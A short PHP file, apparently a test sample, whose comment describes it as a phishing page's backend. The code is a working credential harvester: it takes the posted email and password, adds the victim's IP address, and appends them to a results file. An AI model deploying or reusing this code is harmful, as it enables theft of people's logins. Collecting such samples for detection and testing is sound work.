<?php
// a phishing page's handler: the login its script posts as JSON, kept in a results file
// (written for the tests, never run)
$in = json_decode(file_get_contents('php://input'), true);
$user = $in['email'] ?? '';
$pass = $in['pass'] ?? '';
$line = "User: $user\nPass: $pass\nIP: " . $_SERVER['REMOTE_ADDR'] . "\n\n";
file_put_contents(__DIR__ . '/results.txt', $line, FILE_APPEND);
echo json_encode(['ok' => true]);
